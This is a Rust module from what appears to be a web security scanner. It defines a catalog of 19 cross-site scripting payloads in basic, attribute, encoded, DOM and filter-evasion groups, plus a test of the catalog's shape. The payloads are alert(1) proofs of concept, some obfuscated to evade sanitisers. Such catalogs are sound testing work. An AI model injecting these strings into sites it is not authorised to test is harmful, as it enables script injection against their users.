use crate::payload::{Catalog, Group};

const XSS_GROUPS: &[Group] = &[
    (
        "basic",
        &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<div onmouseover='alert(1)'>hover me</div>",
            "javascript:alert(1)",
        ],
    ),
    (
        "attribute",
        &[
            "\" onmouseover=\"alert(1)\"",
            "' onclick='alert(1)'",
            "\"><script>alert(1)</script>",
            "';alert(1);//",
        ],
    ),
    (
        "encoded",
        &[
            "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
            "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
            "<svg onload=alert&#40;1&#41;>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
        ],
    ),
    (
        "dom",
        &[
            "#<script>alert(1)</script>",
            "?q=<script>alert(1)</script>",
            "javascript:void(0/**/);alert(1)",
        ],
    ),
    (
        "evasion",
        &[
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>setTimeout('ale'+'rt(1)',0)</script>",
            "<img src=x:alert(alt) onerror=eval(src) alt=1>",
            "<script>/* */alert(1)/* */</script>",
        ],
    ),
];

pub static XSS_PAYLOADS: Catalog = Catalog::new("xss", XSS_GROUPS);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_xss_catalog_shape() {
        let cats: Vec<_> = XSS_PAYLOADS.categories().collect();
        assert_eq!(cats, vec!["basic", "attribute", "encoded", "dom", "evasion"]);
        assert_eq!(XSS_PAYLOADS.total(), 19);
    }
}
